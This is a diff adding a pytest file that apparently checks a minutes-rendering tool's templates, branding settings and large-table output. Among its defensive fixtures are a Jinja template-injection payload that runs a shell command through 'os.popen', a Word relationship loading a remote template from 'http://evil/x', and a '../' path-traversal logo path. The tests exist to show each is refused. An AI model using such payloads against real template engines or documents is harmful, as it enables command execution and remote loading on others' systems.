@@ -1,0 +1,169 @@
+"""Templates of the board's own: checked before they are used, and never able to do more than fill in words."""
+
+import io
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import docx
+import pytest
+from conftest import BOARD, ROOT
+from running import ralb
+from test_render import MINUTES, Page, made
+
+Make = Callable[..., Path]
+
+
+@pytest.fixture
+def root(board: Make) -> Path:
+    root = board({"2026-01-22.md": MINUTES})
+    (root / "templates").mkdir()
+    return root
+
+
+def checked() -> list[str]:
+    """What `ralb templates check` says."""
+    return ralb("templates", "check").out.splitlines()
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "said"),
+    [
+        ("minutes.html", "{{ tilte }}", "minutes.html:1: nothing is called `tilte`; did you mean `title`?"),
+        ("minutes.html", "<p>\n{% if %}", "minutes.html:2: Expected an expression, got 'end of statement block'"),
+        ("minutes.html", '{% extends "bare.html" %}', "minutes.html: there is no template `bare.html`"),
+        ("minutes.html", "{{ title.nope.more }}", "minutes.html: templates/minutes.html:1: 'str object' has no"),
+        ("log.md", "{{ items }}", "log.md:1: nothing is called `items`; did you mean `title`?"),
+        ("minutes.html", "{{ title }}", ""),
+        ("base.html", "{{ title }}{% block main %}{% endblock %}", ""),
+    ],
+)
+def test_a_page_template_is_checked(name: str, text: str, said: str, root: Path) -> None:
+    (root / "templates" / name).write_text(text)
+    found = checked()
+    assert found == [] if not said else found[0].startswith(f"templates/{said}")
+    assert ralb("templates", "check").code == int(bool(said))
+
+
+def parts() -> dict[str, bytes]:
+    with zipfile.ZipFile(ROOT / "templates" / "minutes.docx") as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def write(path: Path, changed: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, content in changed.items():
+            archive.writestr(name, content)
+
+
+DOCUMENT, RELS, STYLES = "word/document.xml", "word/_rels/document.xml.rels", "word/styles.xml"
+OUTSIDE = b'<Relationship Id="x" Type="http://x/attachedTemplate" Target="http://evil/x" TargetMode="External"/>'
+
+
+@pytest.mark.parametrize(
+    ("part", "old", "new", "said", "renders"),
+    [
+        (DOCUMENT, b"{{ title }}", b"{{ tilte }}", "nothing is called `tilte`; did you mean `title`?", False),
+        (DOCUMENT, b"<w:r>", b"<w:ins w:id='1'><w:r>", "it holds tracked changes: accept or reject them", False),
+        (DOCUMENT, b"{{p body }}", b"{{ body }}", "there is no paragraph with {{p body }} alone", False),
+        (DOCUMENT, b"{%p if time %}", b"{%p if %}", "Expected an expression", False),
+        (
+            RELS,
+            b"</Relationships>",
+            OUTSIDE + b"</Relationships>",
+            "it loads something from outside, `http://evil/x`",
+            False,
+        ),
+        (STYLES, b'w:val="Restricted"', b'w:val="Limited"', "the style `restricted` is missing", True),
+    ],
+)
+def test_a_word_template_is_checked(
+    part: str, old: bytes, new: bytes, said: str, renders: bool, root: Path
+) -> None:
+    every = parts()
+    every[part] = every[part].replace(old, new, 1)
+    write(root / "templates" / "minutes.docx", every)
+    assert checked()[0].startswith(f"templates/minutes.docx: {said}")
+    ran = ralb("render", "--to", "docx")
+    assert (ran.code == 0) == (renders and "restricted" not in MINUTES)
+    assert not Path("out").exists()
+
+
+def test_a_word_template_with_macros_is_refused(root: Path) -> None:
+    write(root / "templates" / "minutes.docx", {**parts(), "word/vbaProject.bin": b"x"})
+    assert checked() == ["templates/minutes.docx: it holds macros: save it as a document without macros"]
+    assert "it holds macros" in ralb("render", "--to", "docx").err
+
+
+def test_what_is_no_template_is_said(root: Path) -> None:
+    (root / "templates" / "minutes.docx").write_bytes(b"PK no")
+    (root / "templates" / "log.html").write_bytes(b"\xff")
+    (root / "templates" / "~$minutes.docx").write_bytes(b"Word keeps this while the file is open")
+    assert checked() == [
+        "templates/log.html: this is not UTF-8 text",
+        "templates/minutes.docx: this is no Word document",
+    ]
+
+
+@pytest.mark.usefixtures("root")
+def test_the_templates_that_come_with_ralb_have_no_problems() -> None:
+    from ralb.render import linting
+
+    for name in linting.built_in():
+        assert ralb("templates", "copy", name).code == 0
+    assert checked() == []
+
+
+def test_a_template_cannot_reach_the_computer(root: Path) -> None:
+    template = root / "templates" / "minutes.html"
+    template.write_text("{{ cycler.__init__.__globals__.os.popen('id').read() }}")
+    assert "unsafe" in checked()[0]
+
+
+BRAND = BOARD + "brand: {logo: logo.svg, colour: '#0a5c36'}\n"
+LOGO = "<svg xmlns='http://www.w3.org/2000/svg'/>"
+
+
+def test_a_page_bears_the_colour_and_the_logo_of_the_board(board: Make) -> None:
+    root = board({"2026-01-22.md": MINUTES}, BRAND)
+    (root / "logo.svg").write_text(LOGO)
+    page = made("--to", "html")["2026-01-22.html"]
+    assert b":root { --link: #0a5c36; }" in page
+    [picture] = Page(page).all("img")
+    assert picture["alt"] == ""
+    assert str(picture["src"]).startswith("data:image/svg+xml;base64,")
+
+
+@pytest.mark.parametrize(
+    ("brand", "said"),
+    [
+        ("colour: green", "`green` is not a colour (six digits behind a #, as #1d3557)"),
+        ("colour: '#ffee00'", "`#ffee00` is too light on white: its contrast is 1.2, it should be 4.5 at least"),
+        ("logo: ../secret.svg", "`../secret.svg` is no file in the board's folder"),
+        ("logo: logo.exe", "`logo.exe` is no picture for a page (.svg, .png, .jpg, .jpeg)"),
+        ("logo: none.png", "`none.png` is no file in the board's folder"),
+        ("logo: big.png", "`big.png` is larger than 40 KB: a page holds it whole"),
+    ],
+)
+def test_a_colour_or_logo_that_cannot_be_used_is_said(brand: str, said: str, board: Make) -> None:
+    root = board({"2026-01-22.md": MINUTES}, BOARD + f"brand: {{{brand}}}\n")
+    (root / "big.png").write_bytes(b"x" * 50_000)
+    (root.parent / "secret.svg").write_text(LOGO)
+    ran = ralb("render", "--to", "html")
+    assert (ran.code, ran.err) == (2, f"ralb: brand of minutes/board.yaml: {said}\n")
+
+
+def test_six_hundred_rows_have_their_head_on_every_page_and_take_no_age(board: Make) -> None:
+    import time
+
+    rows = "".join(
+        f"  - {{number: {number}, status: open, issued: 2026-01, responsible: [AB], action: Do it {number}}}\n"
+        for number in range(1, 601)
+    )
+    board({"2026-01-22.md": f"---\ndate: 2026-01-22\nactions:\n{rows}---\nNotes.\n"})
+    begun = time.perf_counter()
+    document = made("--what", "log", "--to", "docx")["2026-01-22-log.docx"]
+    assert time.perf_counter() - begun < 6
+    table = docx.Document(io.BytesIO(document)).tables[0]
+    assert len(table._tbl.tr_lst) == 601
+    assert "w:tblHeader" in table.rows[0]._tr.xml
